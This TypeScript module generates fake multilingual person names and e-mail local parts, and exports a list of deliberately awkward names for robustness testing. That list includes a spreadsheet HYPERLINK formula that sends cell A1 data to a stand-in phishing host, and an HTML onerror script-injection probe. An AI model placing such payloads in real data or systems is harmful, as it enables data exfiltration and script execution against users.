import type { Random } from '../random';

/** Given and family names of one script, each with the Latin form that e-mail addresses use. */
type NamePool = { weight: number; familyFirst: boolean; separator: string; given: string; family: string };

/* Written as `name:latin` pairs; a name without a pair is its own Latin form. */
const POOLS: readonly NamePool[] = [
  {
    weight: 30,
    familyFirst: false,
    separator: ' ',
    given:
      'Ada Grace Alan Linus Barbara Margaret Edsger Donald Frances Katherine Hedy Annie Radia Tim Ken Dennis Mary James Olivia Noah Emma Liam Sophia Lucas',
    family:
      "Lovelace Hopper Turing Torvalds Liskov Hamilton Dijkstra Knuth Allen Johnson Lamarr Easley Perlman Thompson Ritchie Smith Jones Walker O'Brien:obrien O'Neill:oneill MacDonald Smith-Jones Baker Wright",
  },
  {
    weight: 18,
    familyFirst: false,
    separator: ' ',
    given:
      'Jürgen:juergen Zoë:zoe François:francois Søren:soeren Åsa:aasa José:jose Łukasz:lukasz Dvořák:dvorak Işıl:isil Ngọc:ngoc Māra:mara Þóra:thora Čeněk:cenek Ágnes:agnes João:joao Günther:guenther',
    family:
      'Müller:mueller Núñez:nunez Øster:oester Škvorecký:skvorecky Wałęsa:walesa Çelik:celik Nguyễn:nguyen Björk:bjork Gößling:goessling Ångström:angstroem Brânză:branza Kovács:kovacs Lefèvre:lefevre Õunapuu:ounapuu',
  },
  {
    weight: 9,
    familyFirst: false,
    separator: ' ',
    given:
      'Анна:anna Иван:ivan Ольга:olga Дмитро:dmytro Юлія:yuliia Ђорђе:dorde Сергей:sergey Наталья:natalya Їжакевич:yizhak',
    family:
      'Иванова:ivanova Шевченко:shevchenko Петров:petrov Ковальчук:kovalchuk Ћирић:ciric Достоевская:dostoevskaya Щербаков:shcherbakov',
  },
  {
    weight: 4,
    familyFirst: false,
    separator: ' ',
    given: 'Ελένη:eleni Γιώργος:giorgos Σοφία:sofia Νίκος:nikos Δήμητρα:dimitra',
    family: 'Παπαδοπούλου:papadopoulou Αγγελόπουλος:angelopoulos Ξενάκης:xenakis Ωνάσης:onasis',
  },
  {
    weight: 6,
    familyFirst: false,
    separator: ' ',
    given: 'محمد:mohammed فاطمة:fatima عائشة:aisha یوسف:yusuf ليلى:layla پرویز:parviz',
    family: 'العلي:alali الخوارزمي:alkhwarizmi حسين:hussein ابن‌سینا:ibnsina المصري:almasri',
  },
  {
    weight: 3,
    familyFirst: false,
    separator: ' ',
    given: 'נועה:noa דוד:david שרה:sarah איתן:eitan מיכל:michal',
    family: 'כהן:cohen לוי:levi מזרחי:mizrahi פרידמן:friedman',
  },
  {
    weight: 6,
    familyFirst: false,
    separator: ' ',
    given: 'प्रिया:priya अर्जुन:arjun लक्ष्मी:lakshmi विक्रम:vikram अनन्या:ananya',
    family: 'शर्मा:sharma पटेल:patel सिंह:singh गुप्ता:gupta श्रीवास्तव:shrivastava',
  },
  {
    weight: 3,
    familyFirst: false,
    separator: ' ',
    given: 'สมชาย:somchai กมลวรรณ:kamonwan ณัฐพล:natthaphon ปิยะ:piya',
    family: 'ใจดี:jaidee ศรีสุข:srisuk วงศ์สวัสดิ์:wongsawat รักไทย:rakthai',
  },
  {
    weight: 8,
    familyFirst: true,
    separator: '',
    given: '伟:wei 芳:fang 秀英:xiuying 小明:xiaoming 雅婷:yating 志強:zhiqiang',
    family: '王:wang 李:li 張:zhang 陈:chen 歐陽:ouyang 𠮷田:jitian',
  },
  {
    weight: 6,
    familyFirst: true,
    separator: ' ',
    given: 'さくら:sakura ヒロシ:hiroshi 太郎:taro ゆうこ:yuko ケンジ:kenji',
    family: '佐藤:sato 鈴木:suzuki たなか:tanaka ワタナベ:watanabe 髙橋:takahashi',
  },
  {
    weight: 5,
    familyFirst: true,
    separator: '',
    given: '민준:minjun 서연:seoyeon 지훈:jihun 하은:haeun 현우:hyeonwoo',
    family: '김:kim 이:lee 박:park 최:choi 남궁:namgung',
  },
];

type Name = { text: string; latin: string };
type ParsedPool = Omit<NamePool, 'given' | 'family'> & { given: readonly Name[]; family: readonly Name[] };

const PARSED: readonly ParsedPool[] = POOLS.map((pool) => ({
  ...pool,
  given: parseNames(pool.given),
  family: parseNames(pool.family),
}));
const WEIGHT_TOTAL = POOLS.reduce((sum, { weight }) => sum + weight, 0);

function parseNames(list: string): readonly Name[] {
  return list.split(' ').map((entry) => {
    const [text = entry, latin] = entry.split(':');
    return { text, latin: latin ?? text.toLowerCase() };
  });
}

export type PersonName = { name: string; nickname: string; localPart: string };

/** A plausible person of some script. `localPart` is what an address of theirs begins with, not yet unique. */
export function personName(random: Random): PersonName {
  const pool = pickPool(random);
  const [given, family] = [random.pick(pool.given), random.pick(pool.family)];
  const parts = pool.familyFirst ? [family.text, given.text] : [given.text, family.text];
  const name = parts.join(pool.separator);
  return {
    name: random.chance(0.004) ? `${name} 🌻` : name,
    nickname: random.chance(0.7) ? given.text : name,
    localPart: `${given.latin}.${family.latin}`,
  };
}

function pickPool(random: Random): ParsedPool {
  let left = random.next() * WEIGHT_TOTAL;
  for (const pool of PARSED) {
    left -= pool.weight;
    if (left < 0) return pool;
  }
  throw new Error('the weights of the name pools do not add up');
}

/** Names that break tables, spreadsheets, layouts and parsers. Every organization has each of them once. */
export const ODD_NAMES: readonly string[] = [
  '=HYPERLINK("https://phish.example/?q="&A1,"Click me")',
  '+SUM(1,2)',
  '@here',
  '-2+3',
  'O\'Reilly-D\'Angelo, Siobhán "Shiv"',
  'First line\nsecond line',
  '\u202Egnirts desrever',
  '🦊 Zoë 👩‍👩‍👧‍👦 Fox 🇺🇦',
  '<img src=x onerror=alert(1)>',
  'مرحبا World שלום',
  'Z\u0351\u036b\u0343a\u030e\u0303l\u0357\u0346g\u0350\u035ao',
  `Maximilian ${'von und zu '.repeat(26)}End`.slice(0, 297) + 'End',
];
